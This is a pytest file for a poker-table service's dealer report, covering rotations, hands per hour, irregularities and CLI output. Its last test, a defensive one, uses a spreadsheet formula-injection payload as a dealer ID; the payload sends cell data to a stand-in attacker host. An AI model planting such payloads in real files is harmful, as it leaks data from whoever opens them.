"""Issue 19, item 4 — dealers: sign-in, rotation and sign-out as events with their times, and each dealer's hands
per hour and irregularities (voids, corrections, exposed cards) over a period (R-AUD-1); ``pokertable report dealers``
prints them as a table, CSV or JSON (docs/cli.md).  The projection is checked on synthetic logs (hypothesis: every
hand and irregularity of the period is one dealer's, and no dealer is at a table longer than the period), the service
against a real server on an SQLite file, the command line on that file."""

from __future__ import annotations

import csv
import doctest
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import grpc
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from domain.dealer_figures import IRREGULARITIES, LogEntry, dealer_figures
from service.api import commands_pb2 as cmd
from service.api import table_service_pb2 as svc
from service.api import types_pb2 as pb
from service.app.application import PokerTables
from service.app.dealer_report import dealer_report
from service.cli import report_dealers
from service.cli.main import main
from service.store.persistence import environment
from tests.support.grpc_support import STATIONS, TOKENS, Client, act, open_circle, rule_of, seat, serving, start

T0 = datetime(2026, 11, 25, 20, 0, tzinfo=UTC)


@pytest.fixture
def db(tmp_path: Path) -> Iterator[tuple[str, PokerTables]]:
    """An SQLite file's URL and an application on it (the test reads the report from it)."""
    url = f"sqlite:///{tmp_path / 'tables.db'}"
    app = PokerTables(env=environment(url))
    try:
        yield url, app
    finally:
        app.close()


def _void(pit: Client) -> None:
    act(pit, "Mesa 1", void=cmd.Void(rule="R-CIRC-14", reason="misdeal recognised by the croupier"))


def test_r_aud_1_rotations_are_events_and_each_dealer_has_his_hands_and_irregularities(
    db: tuple[str, PokerTables], capsys: pytest.CaptureFixture[str],
) -> None:
    url, app = db
    before = datetime.now(UTC)
    with serving(app, STATIONS) as bound:
        pit, croupier = Client(bound, TOKENS["pit"]), Client(bound, TOKENS["dealer"])
        open_circle(pit, "Mesa 1")
        seat(croupier, "Mesa 1", 1), seat(croupier, "Mesa 1", 2)
        with pytest.raises(grpc.RpcError) as refused:  # nobody to sign out yet
            croupier.SignOut(svc.SignOutRequest(command_id=croupier.next_id(), table="Mesa 1"))
        assert rule_of(refused.value) == "R-AUD-1"
        croupier.SignIn(svc.SignInRequest(command_id=croupier.next_id(), table="Mesa 1", dealer_id="D-7"))
        start(croupier, "Mesa 1", pb.DECK_COLOUR_RED)
        _void(pit)
        croupier.RecordCutExposure(svc.RecordCutExposureRequest(command_id=croupier.next_id(), table="Mesa 1",
                                                                card="Qh", colour=pb.DECK_COLOUR_BLUE))
        croupier.RecordDeviceReport(svc.RecordDeviceReportRequest(
            command_id=croupier.next_id(), table="Mesa 1", device="hand shuffle", serial="croupier",
            kind=pb.DEVICE_REPORT_KIND_SHUFFLE, colour=pb.DECK_COLOUR_BLUE, result="shuffled again"))
        pit.CorrectStack(svc.CorrectStackRequest(command_id=pit.next_id(), table="Mesa 1", seat=1, chips=90,
                                                 reason="ten chips paid by mistake"))
        rotation = datetime.now(UTC)
        croupier.SignIn(svc.SignInRequest(command_id=croupier.next_id(), table="Mesa 1", dealer_id="D-9"))
        start(croupier, "Mesa 1", pb.DECK_COLOUR_BLUE)
        _void(pit)
        croupier.SignOut(svc.SignOutRequest(command_id=croupier.next_id(), table="Mesa 1"))
        assert pit.GetTable(svc.GetTableRequest(table="Mesa 1")).view.dealer_id == ""
        start(croupier, "Mesa 1", pb.DECK_COLOUR_RED)  # nobody signed in: the hand is nobody's
    after = datetime.now(UTC) + timedelta(seconds=1)

    report = dealer_report(app, before, after, after)
    figures = {f.dealer: (f.tables, f.hands, f.voids, f.corrections, f.exposed) for f in report.figures}
    assert figures == {"D-7": (("Mesa 1",), 1, 1, 1, 1), "D-9": (("Mesa 1",), 1, 1, 0, 0),
                       "": (("Mesa 1",), 1, 0, 0, 0)}
    assert [(r.dealer, r.previous, r.kind) for r in report.rotations] == [
        ("D-7", "", "sign-in"), ("D-9", "D-7", "sign-in"), ("D-9", "", "sign-out")]
    seven = report.figures[1]
    assert seven.dealer == "D-7" and 0 < seven.seconds < (after - before).total_seconds()
    assert seven.hands_per_hour == round(1 / (seven.seconds / 3600), 2)
    assert [f.dealer for f in dealer_report(app, before, rotation, after).figures] == ["D-7"]

    assert main(["report", "dealers", "--from", before.isoformat(), "--to", after.isoformat(), "--db", url,
                 "--format", "csv"]) == 0
    out, err = capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["dealer"], r["hands"], r["irregularities"]) for r in rows] == [
        ("(none)", "1", "0"), ("D-7", "1", "3"), ("D-9", "1", "1")]
    # the count on standard error (where the service's log, configured by an earlier test, may write too)
    assert any(line.startswith("3 dealer(s) from ") for line in err.splitlines())
    assert main(["report", "dealers", "--from", before.isoformat(), "--db", url, "--format", "json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert [d["dealer"] for d in document["dealers"]] == ["(none)", "D-7", "D-9"]
    assert [r["kind"] for r in document["rotations"]] == ["sign-in", "sign-in", "sign-out"]
    assert main(["report", "dealers", "--from", before.isoformat(), "--db", url]) == 0
    assert capsys.readouterr().out.splitlines()[0].split()[:5] == ["dealer", "name", "tables", "hours", "hands"]
    assert main(["report", "dealers", "--from", after.isoformat(), "--to", before.isoformat(), "--db", url]) == 2


ENTRY = st.tuples(st.integers(0, 600), st.sampled_from(["t1", "t2"]),
                  st.sampled_from(["sign-in", "sign-out", "hand", "closed", *IRREGULARITIES]),
                  st.sampled_from(["D-1", "D-2", "D-3"]))


@settings(max_examples=80, deadline=None)
@given(entries=st.lists(ENTRY, max_size=40), window=st.tuples(st.integers(0, 600), st.integers(1, 600)))
def test_r_aud_1_every_hand_and_irregularity_of_the_period_is_one_dealer_s(
    entries: list[tuple[int, str, str, str]], window: tuple[int, int],
) -> None:
    log: list[LogEntry] = []
    hands = 0
    for position, (minute, table, what, dealer) in enumerate(sorted(entries), start=1):
        time = T0 + timedelta(minutes=minute)
        aggregate = "Table"
        if what == "sign-in":
            event, data = "Table.DealerSignedIn", {"dealer_id": dealer, "previous": ""}
        elif what == "sign-out":
            event, data = "Table.DealerSignedOut", {"dealer_id": dealer}
        elif what == "closed":
            event, data = "Table.Closed", {}
        elif what == "hand":
            hands += 1
            event, data = "Table.HandStarted", {"hand_id": f"{table}-h{hands}"}
        else:
            aggregate, event, data = "hand", what, {}
        originator = f"{table}-h{hands}" if aggregate == "hand" else table
        log.append(LogEntry(position, time, originator, event, data))
    start = T0 + timedelta(minutes=window[0])
    end = start + timedelta(minutes=window[1])
    report = dealer_figures(log, start=start, end=end, now=T0 + timedelta(minutes=700))
    in_period = [e for e in log if start <= e.time < end]
    counted = [e for e in in_period if e.event == "Table.HandStarted"]
    assert sum(f.hands for f in report.figures) == len(counted)
    hand_tables = {e.data["hand_id"] for e in log if e.event == "Table.HandStarted"}
    irregular = [e for e in in_period if e.event in IRREGULARITIES and
                 (e.originator in hand_tables or e.event.startswith("Table."))]
    assert sum(f.irregularities for f in report.figures) == len(irregular)
    for figures in report.figures:  # at most the whole period at each of the two tables
        assert 0 <= figures.seconds <= 2 * (end - start).total_seconds()
        assert figures.hands_per_hour >= 0


def test_the_report_s_module_examples_hold() -> None:
    assert doctest.testmod(report_dealers).failed == 0


def test_a_dealer_id_never_runs_as_a_formula_in_the_csv(db: tuple[str, PokerTables],
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    """Attack (issue 34, "also found"): a croupier signs in as ``=HYPERLINK(…)``; ``report dealers --format csv``
    writes it as text (a leading apostrophe), never as a formula a spreadsheet would run."""
    url, app = db
    before = datetime.now(UTC)
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    with serving(app, STATIONS) as bound:
        pit, croupier = Client(bound, TOKENS["pit"]), Client(bound, TOKENS["dealer"])
        open_circle(pit, "Mesa 1")
        seat(croupier, "Mesa 1", 1), seat(croupier, "Mesa 1", 2)
        croupier.SignIn(svc.SignInRequest(command_id=croupier.next_id(), table="Mesa 1", dealer_id=evil))
        start(croupier, "Mesa 1", pb.DECK_COLOUR_RED)
    after = datetime.now(UTC) + timedelta(seconds=1)
    assert main(["report", "dealers", "--from", before.isoformat(), "--to", after.isoformat(), "--db", url,
                 "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["dealer"], r["hands"]) for r in rows] == [("'" + evil, "1")]
